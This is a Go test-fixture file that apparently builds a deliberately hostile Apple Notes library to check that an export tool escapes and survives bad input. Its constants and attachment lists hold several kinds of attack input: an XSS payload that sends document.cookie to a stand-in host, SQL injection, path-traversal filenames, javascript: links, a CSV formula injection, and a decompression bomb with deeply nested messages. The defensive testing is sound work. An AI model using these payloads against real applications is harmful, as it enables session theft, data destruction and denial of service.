package apps

import (
	"encoding/binary"
	"fmt"
	"strings"
	"sync"
	"time"
)

// What somebody may write who wants to get out of where it is shown.
const (
	nastyScript = `</title></style></pre><script>fetch("https://example.invalid/?"+document.cookie)</script><img src=x onerror=alert(1)>`
	nastySQL    = `'); DROP TABLE ZICNOTEDATA; -- " OR ""="`
	nastyUp     = "../../../../../../tmp/lifeboat-escaped"
	nastyLetter = "\u202Etxt.exe\u0000\u0007\u200B"
	nastyScheme = "javascript:alert(document.domain)"
	nastyCSV    = `=HYPERLINK("https://example.invalid","free"),"x` + "\r\n"
)

// nastyNotes has folders that lie in each other, notes that belong nowhere,
// bodies that are none, and files that would lie elsewhere.
func nastyNotes(now time.Time) Notes {
	notes := Notes{
		Accounts: []NoteAccount{{ID: noteCloud, Name: nastyScript}, {ID: nastyUp, Name: "Up"}},
		Folders: []NoteFolder{
			{ID: noteAll, Title: "Notes", Account: noteCloud},
			{ID: "loop-1", Title: "Round", Account: noteCloud, Parent: "loop-2"},
			{ID: "loop-2", Title: "and round", Account: noteCloud, Parent: "loop-1"},
			{ID: "self", Title: "In itself", Account: noteCloud, Parent: "self"},
			{ID: "orphan", Title: nastySQL, Account: "nobody", Parent: "nowhere"},
			{ID: nastyUp, Title: nastyUp, Account: nastyUp},
			{ID: "con", Title: "CON", Account: noteCloud}, {ID: "con2", Title: "con ", Account: noteCloud},
		},
		Old: []OldNote{{Account: nastyScript, Store: nastyUp, Title: nastySQL, HTML: nastyScript + `<iframe src="file:///etc/passwd"></iframe><a href="` + nastyScheme + `">x</a><img src="https://example.invalid/p.gif">`,
			Created: clock(now, 9000, 1, 1), Modified: clock(now, 9000, 1, 1)}},
	}
	add := func(folder, title string, runs ...NoteRun) *Note {
		n := len(notes.Notes)
		note := cloudNote(500+n, folder, title, clock(now, 500+n, 3, n%60), runs...)
		notes.Notes = append(notes.Notes, note)
		return &notes.Notes[n]
	}
	for _, folder := range []string{"loop-1", "self", "orphan", "not there", "", nastyUp, "con", "con2"} {
		add(folder, "In "+folder, NoteRun{Text: "Here all the same."})
	}
	add(noteAll, nastyScript, NoteRun{Text: nastyScript, Link: nastyScheme}, NoteRun{Text: "x", Link: `https://example.org/"onmouseover="alert(1)`}, NoteRun{Text: "y", Link: "file:///etc/passwd"})
	add(noteAll, nastySQL, NoteRun{Text: nastySQL + nastyUp + nastyLetter})
	add(noteAll, nastyLetter, NoteRun{Text: "A title that is not what it looks like."})
	add(noteAll, "", NoteRun{Text: "No title."})
	add(noteAll, "Long", NoteRun{Text: strings.Repeat("Wind 🌬️ und Wellen. ", 8_000)})
	add(noteAll, "Deep", NoteRun{Text: "deep", Style: StyleDotted, Indent: 1 << 30})
	add(noteAll, "Same").ID = notes.Notes[0].ID
	for _, body := range nastyBodies() {
		add(noteAll, "Body: "+body.name).Raw = body.data
	}
	add(noteAll, "Locked").Locked = true
	files := []NoteRun{}
	for i, a := range nastyAttachments() {
		a.ID = fmt.Sprintf("BAD%05d-0000-4000-8000-000000000000", i)
		if i == 0 {
			a.ID = nastyUp
		}
		files = append(files, NoteRun{Attachment: &a}, NoteRun{Text: "\n"})
	}
	add(noteAll, "Files", files...)
	return notes
}

// nastyBody is what may stand where the text of a note should be.
type nastyBody struct {
	name string
	data []byte
}

func nastyBodies() []nastyBody {
	whole := noteBody(Note{ID: "n", Runs: []NoteRun{{Text: "Half of this is missing."}}})
	text := func(m message) []byte { return squeeze(message(nil).bytes(2, message(nil).bytes(3, m))) }
	run := func(length uint64) message { return message(nil).number(1, length) }
	return []nastyBody{
		{"not compressed", []byte("plain words")},
		{"nothing", []byte{}},
		{"cut short", whole[:len(whole)/2]},
		{"noise", squeeze(randomBytes("nasty", 5_000))},
		{"large once it is unpacked", hugeNote()},
		{"a field that is longer than the rest", squeeze([]byte{0x12, 0xFF, 0xFF, 0xFF, 0xFF, 0x0F, 0x01})},
		{"a number without an end", squeeze([]byte(strings.Repeat("\xFF", 40)))},
		{"runs beyond the text", text(message(nil).text(2, "short").bytes(5, run(3)).bytes(5, run(1<<40)).bytes(5, run(7)))},
		{"runs that end too soon", text(message(nil).text(2, "words without a look").bytes(5, run(3)))},
		{"runs that divide a letter", text(message(nil).text(2, "a🌬b").bytes(5, run(2)).bytes(5, run(2)))},
		{"letters that are none", text(message(nil).bytes(2, []byte("a\xff\xfe\x00b")).bytes(5, run(5)))},
		{"two texts", text(message(nil).text(2, "first").text(2, "second").bytes(5, run(6)))},
		{"messages in messages", squeeze(nested(20_000))},
	}
}

// hugeNote is small until it is unpacked. It takes a while to make, and is made
// once.
var hugeNote = sync.OnceValue(func() []byte { return squeeze(make([]byte, 48<<20)) })

// nested is a message that holds one that holds one, and so on, in the fields
// where a note is looked for.
func nested(depth int) message {
	// From the inside out, each one is its head and what was there before: the
	// heads are gathered and put in order at the end.
	var heads []message
	size := 0
	for i := range depth {
		field := 3 - i%2
		head := binary.AppendUvarint(message{byte(field<<3 | wireBytes)}, uint64(size))
		heads = append(heads, head)
		size += len(head)
	}
	var out message
	for i := range heads {
		out = append(out, heads[len(heads)-1-i]...)
	}
	return out
}

func nastyAttachments() []NoteAttachment {
	jpeg, there := "public.jpeg", landscape("nasty", 32, 24)
	file := func(media, name string) NoteAttachment {
		return NoteAttachment{Type: jpeg, MediaID: media, Filename: name, Data: there}
	}
	// One row that points at itself, and at one that is not there.
	loop := message(nil).number(1, 0).bytes(3, message(nil).number(1, 0).bytes(2, pointer(0))).bytes(3, message(nil).number(1, 1).bytes(2, pointer(1<<31)))
	round := message(nil).bytes(3, message(nil).bytes(13, loop)).text(4, "crRows").text(4, "cellColumns").text(5, "com.apple.notes.ICTable")
	wide := make([][]string, 40)
	for i := range wide {
		wide[i] = make([]string, 60)
		for j := range wide[i] {
			wide[i][j] = fmt.Sprintf("%d/%d", i, j)
		}
	}
	return []NoteAttachment{
		file("../../../..", nastyUp), file("media-1", "../../../"+nastyUp+".jpg"), file("media-2", `..\..\windows.jpg`), file("media-3", "CON.jpg"),
		file("media-4", strings.Repeat("n", 251)+".jpg"), file("media-5", "same.jpg"), file("media-6", "SAME.JPG"), file("media-7", `"><script>alert(1)<.script>.jpg`),
		{Type: jpeg, NoRow: true},
		{Type: jpeg, MediaID: "media-8", Filename: "in iCloud.jpg"},
		{Type: nastyScript, MediaID: "media-9", Filename: "unknown.type", Data: []byte(nastyScript)},
		{Type: "public.url", Title: nastyScript, URL: nastyScheme},
		{Type: "public.html", MediaID: "media-10", Filename: "page.html", Data: []byte("<script>alert(1)</script>")},
		{Type: typeTable, Raw: []byte("no table")}, {Type: typeTable, Raw: squeeze(message(nil).bytes(2, message(nil).bytes(3, round)))},
		{Type: typeTable, Table: wide}, {Type: typeTable, Table: [][]string{{nastyScript, nastySQL}, {nastyCSV}}}, {Type: typeTable, Table: [][]string{{}, {}}},
	}
}
